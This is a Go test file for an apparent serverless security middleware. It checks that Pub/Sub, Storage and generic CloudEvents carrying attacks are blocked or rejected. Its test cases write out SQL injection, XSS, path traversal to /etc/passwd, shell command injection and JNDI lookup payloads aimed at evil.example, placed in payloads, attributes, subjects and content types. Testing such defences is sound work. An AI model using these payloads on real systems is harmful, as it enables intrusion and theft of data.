package guardgcf_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/cloudevents/sdk-go/v2/event"
	"go.uber.org/zap"
	"go.uber.org/zap/zapcore"
	"go.uber.org/zap/zaptest/observer"

	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/middleware/guardgcf"
)

func newGuard(t testing.TB, opts ...guard.Option) (*guard.Guard, *observer.ObservedLogs) {
	t.Helper()
	core, logs := observer.New(zapcore.DebugLevel)
	opts = append([]guard.Option{guard.WithoutEnv(), guard.WithLogger(zap.New(core)), guard.WithLogRate(-1, 0)}, opts...)
	g, err := guard.New(opts...)
	if err != nil {
		t.Fatalf("guard.New: %v", err)
	}
	return g, logs
}

const (
	topicSource  = "//pubsub.googleapis.com/projects/shop-prod/topics/orders"
	bucketSource = "//storage.googleapis.com/projects/_/buckets/uploads-eu"
)

// pubsubData builds the data of a messagePublished event.
func pubsubData(payload string, attrs map[string]string) []byte {
	msg := map[string]any{
		"data":        base64.StdEncoding.EncodeToString([]byte(payload)),
		"messageId":   "2070443601311540",
		"publishTime": "2024-06-11T09:41:27.512Z",
	}
	if attrs != nil {
		msg["attributes"] = attrs
	}
	b, _ := json.Marshal(map[string]any{"message": msg, "subscription": "projects/shop-prod/subscriptions/orders-fn"})
	return b
}

func newEvent(ceType, source string, data []byte, ct string) event.Event {
	e := event.New()
	e.SetID("2070443601311540")
	e.SetType(ceType)
	e.SetSource(source)
	e.SetTime(time.Date(2024, 6, 11, 9, 41, 27, 0, time.UTC))
	if data != nil {
		e.DataEncoded = data
		e.SetDataContentType(ct)
	}
	return e
}

func pubsubEvent(payload string, attrs map[string]string) event.Event {
	return newEvent(guardgcf.TypePubSub, topicSource, pubsubData(payload, attrs), "application/json")
}

func storageEvent(typ, source, bucket, name string) event.Event {
	data, _ := json.Marshal(map[string]any{
		"kind": "storage#object", "bucket": bucket, "name": name, "contentType": "image/png",
		"size": "52314", "generation": "1718098887512345", "md5Hash": "mZ1RpxQ2dIEkyRbp7Twh1g==",
		"timeCreated": "2024-06-11T09:41:27.512Z", "metadata": map[string]string{"uploader": "web"},
	})
	e := newEvent(typ, source, data, "application/json")
	e.SetSubject("objects/" + name)
	return e
}

// findingAt reports whether some log line carries a finding at loc (exact,
// or as a prefix when loc ends with '*').
func findingAt(logs *observer.ObservedLogs, loc string) bool {
	match := func(s string) bool {
		if p, ok := strings.CutSuffix(loc, "*"); ok {
			return strings.HasPrefix(s, p)
		}
		return s == loc
	}
	for _, e := range logs.All() {
		m := e.ContextMap()
		if l, ok := m["fnguard.location"].(string); ok && match(l) {
			return true
		}
		if fs, ok := m["fnguard.findings"]; ok {
			b, _ := json.Marshal(fs)
			var list []map[string]any
			_ = json.Unmarshal(b, &list)
			for _, f := range list {
				if l, ok := f["location"].(string); ok && match(l) {
					return true
				}
			}
		}
	}
	return false
}

func TestCloudEvent(t *testing.T) {
	limit := int64(2048)
	withSubject := func(e event.Event, s string) event.Event { e.SetSubject(s); return e }
	withExt := func(e event.Event, k string, v any) event.Event { e.SetExtension(k, v); return e }
	invalidB64 := newEvent(guardgcf.TypePubSub, topicSource,
		[]byte(`{"message":{"data":"not*base64!","messageId":"1"},"subscription":"projects/p/subscriptions/s"}`), "application/json")
	dataNotString := newEvent(guardgcf.TypePubSub, topicSource, []byte(`{"message":{"data":{"x":1}}}`), "application/json")
	noMessage := newEvent(guardgcf.TypePubSub, topicSource, []byte(`{"subscription":"s"}`), "application/json")
	notJSON := newEvent(guardgcf.TypePubSub, topicSource, []byte(`hello`), "text/plain")
	dupKeys := newEvent(guardgcf.TypePubSub, topicSource, []byte(`{"message":{"data":"e30="},"message":{"data":"e30="}}`), "application/json")
	attrsOnly := newEvent(guardgcf.TypePubSub, topicSource, []byte(`{"message":{"attributes":{"kind":"ping"},"messageId":"9"}}`), "application/json")
	noID := newEvent("com.example.thing", "//example/src", []byte(`{}`), "application/json")
	noID.SetID("")

	tests := []struct {
		name    string
		opts    []guard.Option
		ev      event.Event
		wantErr error  // nil: the function ran
		wantLoc string // a finding location expected in the logs
		status  int    // Decision.Status of the error, 0: not checked
	}{
		{"pubsub benign JSON", nil, pubsubEvent(`{"orderId":"A-1","customer":"O'Brien","note":"select the best one from the list"}`, map[string]string{"kind": "order"}), nil, "", 0},
		{"pubsub benign text", nil, pubsubEvent(`hello world & a < b`, nil), nil, "", 0},
		{"pubsub attributes only", nil, attrsOnly, nil, "", 0},
		{"pubsub SQLi in JSON payload", nil, pubsubEvent(`{"orderId":"A-1","customer":"' OR 1=1--"}`, nil), guard.ErrBlocked, "records[0].body.customer", 0},
		{"pubsub XSS in text payload", nil, pubsubEvent(`<script>alert(document.cookie)</script>`, nil), guard.ErrBlocked, "records[0].body", 0},
		{"pubsub injection in attribute", nil, pubsubEvent(`{}`, map[string]string{"file": "../../../../etc/passwd"}), guard.ErrBlocked, "records[0].data.message.attributes.file", 0},
		{"pubsub invalid base64", nil, invalidB64, guard.ErrRejected, "records[0].data.message.data", 400},
		{"pubsub data not a string", nil, dataNotString, guard.ErrRejected, "records[0].data.message.data", 400},
		{"pubsub without message", nil, noMessage, guard.ErrRejected, "records[0].data.message", 400},
		{"pubsub data not JSON", nil, notJSON, guard.ErrRejected, "records[0].data", 400},
		{"pubsub duplicate keys", nil, dupKeys, guard.ErrRejected, "records[0].data", 400},
		{"pubsub payload over the limit", nil, pubsubEvent(strings.Repeat("a", int(limit)+1), nil), guard.ErrRejected, "records[0].body", 413},
		{"pubsub payload at the limit", nil, pubsubEvent(strings.Repeat("a", int(limit)), nil), nil, "", 0},
		{"storage benign", nil, storageEvent("google.cloud.storage.object.v1.finalized", bucketSource, "uploads-eu", "avatars/2024/06/me.png"), nil, "", 0},
		{"storage traversal in object name", nil, storageEvent("google.cloud.storage.object.v1.finalized", bucketSource, "uploads-eu", "../../etc/passwd"), guard.ErrBlocked, "records[0].body.name", 0},
		{"storage bucket mismatch", nil, storageEvent("google.cloud.storage.object.v1.finalized", bucketSource, "other-bucket", "a.png"), guard.ErrRejected, "records[0].body.bucket", 400},
		{"storage bucket allowed", []guard.Option{guard.WithAllowEventSources("//storage.googleapis.com/projects/_/buckets/uploads-*")},
			storageEvent("google.cloud.storage.object.v1.finalized", bucketSource, "uploads-eu", "a.png"), nil, "", 0},
		{"storage bucket not allowed", []guard.Option{guard.WithAllowEventSources("//storage.googleapis.com/projects/_/buckets/uploads-*")},
			storageEvent("google.cloud.storage.object.v1.finalized", "//storage.googleapis.com/projects/_/buckets/private", "private", "a.png"), guard.ErrBlocked, "records[0].eventSource", 0},
		{"event type not allowed", []guard.Option{guard.WithAllowEventTypes("google.cloud.storage.object.v1.finalized")},
			storageEvent("google.cloud.storage.object.v1.deleted", bucketSource, "uploads-eu", "a.png"), guard.ErrBlocked, "records[0].eventType", 0},
		{"topic allowed by glob", []guard.Option{guard.WithAllowEventSources("*/topics/orders")}, pubsubEvent(`{}`, nil), nil, "", 0},
		{"topic not allowed", []guard.Option{guard.WithAllowEventSources("*/topics/payments")}, pubsubEvent(`{}`, nil), guard.ErrBlocked, "records[0].eventSource", 0},
		{"unknown type, benign JSON", nil, newEvent("com.example.order.created", "//shop/orders", []byte(`{"id":7,"note":"fine"}`), "application/json"), nil, "", 0},
		{"unknown type, XSS in JSON", nil, newEvent("com.example.order.created", "//shop/orders", []byte(`{"id":7,"note":"<img src=x onerror=alert(1)>"}`), "application/json"), guard.ErrBlocked, "records[0].body.note", 0},
		// Malformed data is rejected whichever layer finds it (the engine
		// here, the adapter for the oversized data below).
		{"unknown type, invalid JSON", nil, newEvent("com.example.order.created", "//shop/orders", []byte(`{"id":`), "application/json"), guard.ErrRejected, "records[0].body", 400},
		{"unknown type, text", nil, newEvent("com.example.note", "//shop/notes", []byte(`plain; words`), "text/plain"), nil, "", 0},
		{"unknown type, cmdi in text", nil, newEvent("com.example.note", "//shop/notes", []byte(`x; cat /etc/passwd`), "text/plain"), guard.ErrBlocked, "records[0].body", 0},
		{"unknown type over the limit", nil, newEvent("com.example.blob", "//shop/blobs", []byte(strings.Repeat("z", int(limit)+1)), "text/plain"), guard.ErrRejected, "records[0].body", 413},
		{"protobuf data is binary", nil, newEvent("com.example.proto", "//shop/p", []byte{0x0a, 0x05, 0xff, 0xfe, 0x00, 0x80}, "application/protobuf"), nil, "", 0},
		{"injection in subject", nil, withSubject(newEvent("com.example.x", "//shop/x", []byte(`{}`), "application/json"), "objects/${jndi:ldap://evil.example/a}"), guard.ErrBlocked, "records[0].subject", 0},
		{"injection in extension", nil, withExt(newEvent("com.example.x", "//shop/x", []byte(`{}`), "application/json"), "tenant", "' OR 1=1--"), guard.ErrBlocked, "records[0].extensions.tenant", 0},
		{"invalid event", nil, noID, guard.ErrRejected, "records[0].id", 400},
		{"zero event", nil, event.Event{}, guard.ErrRejected, "records[0].specversion", 400},
		{"monitor mode runs the function", []guard.Option{guard.WithMode(guard.Monitor)}, pubsubEvent(`{"customer":"' OR 1=1--"}`, nil), nil, "records[0].body.customer", 0},
		{"monitor mode, invalid base64", []guard.Option{guard.WithMode(guard.Monitor)}, invalidB64, nil, "records[0].data.message.data", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			g, logs := newGuard(t, append([]guard.Option{guard.WithMaxBodyBytes(limit)}, tt.opts...)...)
			var calls atomic.Int32
			var got event.Event
			fn := guardgcf.CloudEvent(g, func(_ context.Context, e event.Event) error {
				calls.Add(1)
				got = e
				return nil
			})
			err := fn(t.Context(), tt.ev)
			if tt.wantErr == nil {
				if err != nil || calls.Load() != 1 {
					t.Fatalf("err %v, function calls %d; want the function to run; logs %v", err, calls.Load(), logs.All())
				}
				if got.ID() != tt.ev.ID() || string(got.Data()) != string(tt.ev.Data()) {
					t.Fatalf("the function got a different event")
				}
			} else {
				var be *guard.BlockedError
				if !errors.Is(err, tt.wantErr) || !errors.As(err, &be) {
					t.Fatalf("err = %v, want a *guard.BlockedError matching %v; logs %v", err, tt.wantErr, logs.All())
				}
				if calls.Load() != 0 {
					t.Fatal("the function ran for a blocked event")
				}
				if tt.status != 0 && be.Decision.Status != tt.status {
					t.Fatalf("status %d, want %d", be.Decision.Status, tt.status)
				}
			}
			if tt.wantLoc != "" && !findingAt(logs, tt.wantLoc) {
				t.Fatalf("no finding at %s; logs %v", tt.wantLoc, logs.All())
			}
			if tt.wantLoc == "" && logs.FilterFieldKey("fnguard.rule").Len() > 0 {
				t.Fatalf("unexpected findings: %v", logs.All())
			}
		})
	}
}

func TestCloudEventSources(t *testing.T) {
	for typ, want := range map[string]guard.Source{
		guardgcf.TypePubSub:                                    guard.SourcePubSub,
		"google.cloud.storage.object.v1.finalized":             guard.SourceStorage,
		"google.cloud.storage.object.v1.metadataUpdated":       guard.SourceStorage,
		"google.cloud.firestore.document.v1.written":           guard.SourceFirestore,
		"google.firebase.database.ref.v1.written":              guard.SourceFirebaseDatabase,
		"google.firebase.auth.user.v1.created":                 guard.SourceFirebaseAuth,
		guardgcf.TypeAuditLog:                                  guard.SourceAuditLog,
		"google.cloud.cloudbuild.build.v1.statusChanged":       guard.SourceCloudBuild,
		guardgcf.TypeScheduler:                                 guard.SourceScheduler,
		"google.firebase.remoteconfig.remoteConfig.v1.updated": guard.SourceCloudEvent,
		"": guard.SourceCloudEvent,
	} {
		if got := guardgcf.Source(typ); got != want {
			t.Errorf("Source(%q) = %q, want %q", typ, got, want)
		}
	}
}

func TestCloudEventTelemetry(t *testing.T) {
	t.Setenv("K_SERVICE", "orders-fn")
	t.Setenv("FUNCTION_TARGET", "ProcessOrder")
	g, logs := newGuard(t)
	fn := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { return nil })
	e := pubsubEvent(`<script>alert(1)</script>`, nil)
	e.SetID("evt-77")
	e.SetExtension("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")
	if err := fn(t.Context(), e); !errors.Is(err, guard.ErrBlocked) {
		t.Fatalf("err = %v", err)
	}
	if logs.Len() == 0 {
		t.Fatal("nothing logged")
	}
	all, _ := json.Marshal(logs.All()[0].ContextMap())
	for _, want := range []string{"evt-77", "4bf92f3577b34da6a3ce929d0e0e4736", "orders-fn", "ProcessOrder", `"gcp:pubsub"`} {
		if !strings.Contains(string(all), want) {
			t.Errorf("log line lacks %s: %s", want, all)
		}
	}
}

func TestCloudEventAckBlocked(t *testing.T) {
	t.Setenv("FNGUARD_ACK_BLOCKED", "true")
	core, logs := observer.New(zapcore.DebugLevel)
	g, err := guard.New(guard.WithLogger(zap.New(core)))
	if err != nil {
		t.Fatal(err)
	}
	if !g.AckBlocked() {
		t.Fatal("FNGUARD_ACK_BLOCKED=true not applied")
	}
	var calls atomic.Int32
	fn := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { calls.Add(1); return nil })
	t.Run("blocked event acknowledged", func(t *testing.T) {
		if err := fn(t.Context(), pubsubEvent(`{"q":"' OR 1=1--"}`, nil)); err != nil {
			t.Fatalf("err = %v, want nil (acknowledged)", err)
		}
		if calls.Load() != 0 {
			t.Fatal("the function ran")
		}
		if logs.FilterMessageSnippet("acknowledged and dropped").Len() != 1 {
			t.Fatalf("the drop was not logged: %v", logs.All())
		}
	})
	t.Run("rejected event acknowledged", func(t *testing.T) {
		if err := fn(t.Context(), newEvent(guardgcf.TypePubSub, topicSource, []byte(`{"message":{"data":"%%%"}}`), "application/json")); err != nil {
			t.Fatalf("err = %v, want nil", err)
		}
	})
	t.Run("benign event runs", func(t *testing.T) {
		if err := fn(t.Context(), pubsubEvent(`{"q":"shoes"}`, nil)); err != nil || calls.Load() != 1 {
			t.Fatalf("err %v, calls %d", err, calls.Load())
		}
	})
}

// panicContext is an event context whose source panics when read, to drive
// the adapter's own recovery.
type panicContext struct{ event.EventContext }

func (panicContext) GetSource() string { panic("broken event context") }

func TestCloudEventPanicInMapping(t *testing.T) {
	for _, tt := range []struct {
		name    string
		fail    guard.FailMode
		ack     string
		wantErr error
	}{
		{"fail closed", guard.FailClosed, "false", guard.ErrFailed},
		{"fail closed, ack mode still errs", guard.FailClosed, "true", guard.ErrFailed},
		{"fail open", guard.FailOpen, "false", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv("FNGUARD_ACK_BLOCKED", tt.ack)
			g, err := guard.New(guard.WithLogger(zap.NewNop()), guard.WithFailMode(tt.fail))
			if err != nil {
				t.Fatal(err)
			}
			var calls atomic.Int32
			fn := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { calls.Add(1); return nil })
			e := pubsubEvent(`{}`, nil)
			e.Context = panicContext{e.Context}
			err = fn(t.Context(), e)
			if tt.wantErr == nil {
				if err != nil || calls.Load() != 1 {
					t.Fatalf("err %v, calls %d; want the function to run (fail open)", err, calls.Load())
				}
				return
			}
			if !errors.Is(err, tt.wantErr) || calls.Load() != 0 {
				t.Fatalf("err %v, calls %d; want %v", err, calls.Load(), tt.wantErr)
			}
		})
	}
}

func TestCloudEventMisuse(t *testing.T) {
	var calls atomic.Int32
	user := func(context.Context, event.Event) error { calls.Add(1); return nil }
	if err := guardgcf.CloudEvent(nil, user)(t.Context(), pubsubEvent(`{}`, nil)); !errors.Is(err, guard.ErrNoGuard) {
		t.Fatalf("nil guard: err = %v, want guard.ErrNoGuard", err)
	}
	if calls.Load() != 0 {
		t.Fatal("the function ran without a guard")
	}
	g, _ := newGuard(t)
	if err := guardgcf.CloudEvent(g, nil)(t.Context(), pubsubEvent(`{}`, nil)); !errors.Is(err, guardgcf.ErrNilFunction) {
		t.Fatalf("nil function: err = %v", err)
	}
	errUser := errors.New("database down")
	if err := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { return errUser })(t.Context(), pubsubEvent(`{}`, nil)); err != errUser {
		t.Fatalf("the function's own error was not passed through: %v", err)
	}
}

func TestCloudEventStructuredRoundTrip(t *testing.T) {
	// A structured-mode event as the Functions Framework decodes it from
	// application/cloudevents+json: data is the raw JSON of the data member.
	raw := `{"specversion":"1.0","id":"42","type":"` + guardgcf.TypePubSub + `","source":"` + topicSource + `",
		"datacontenttype":"application/json","data":` + string(pubsubData(`{"sku":"A1' UNION SELECT password FROM users--"}`, nil)) + `}`
	var e event.Event
	if err := json.Unmarshal([]byte(raw), &e); err != nil {
		t.Fatal(err)
	}
	g, logs := newGuard(t)
	err := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { return nil })(t.Context(), e)
	if !errors.Is(err, guard.ErrBlocked) || !findingAt(logs, "records[0].body.sku") {
		t.Fatalf("err %v; logs %v", err, logs.All())
	}
}

// TestCloudEventDataContentType: the sender writes datacontenttype; a value
// that is no media type is judged as a string, whether the engine reads it
// as the body's media type (a Storage object) or the data is decoded as
// what the event type says (a Pub/Sub envelope).
func TestCloudEventDataContentType(t *testing.T) {
	for _, c := range []struct {
		name, typ, source, ct, data string
		blocked                     bool
	}{
		{"Pub/Sub, a media type", guardgcf.TypePubSub, topicSource, "application/json; charset=utf-8", string(pubsubData(`{"a":1}`, nil)), false},
		{"Pub/Sub, a command", guardgcf.TypePubSub, topicSource, ";{cat,/etc/passwd}", string(pubsubData(`{"a":1}`, nil)), true},
		{"Pub/Sub, a lookup in a parameter", guardgcf.TypePubSub, topicSource, "application/json; x=${jndi:ldap://x.example/a}", string(pubsubData(`{"a":1}`, nil)), true},
		{"other type, a media type", "com.example.order.v1", "//example.com/orders", "application/json", `{"a":1}`, false},
		{"other type, a command", "com.example.order.v1", "//example.com/orders", ";{cat,/etc/passwd}", `{"a":1}`, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			raw := `{"specversion":"1.0","id":"42","type":"` + c.typ + `","source":"` + c.source + `",
				"datacontenttype":` + strconv.Quote(c.ct) + `,"data":` + c.data + `}`
			var e event.Event
			if err := json.Unmarshal([]byte(raw), &e); err != nil {
				t.Fatal(err)
			}
			g, logs := newGuard(t)
			err := guardgcf.CloudEvent(g, func(context.Context, event.Event) error { return nil })(t.Context(), e)
			if c.blocked != errors.Is(err, guard.ErrBlocked) {
				t.Fatalf("blocked = %v, want %v (err %v; logs %v)", errors.Is(err, guard.ErrBlocked), c.blocked, err, logs.All())
			}
		})
	}
}
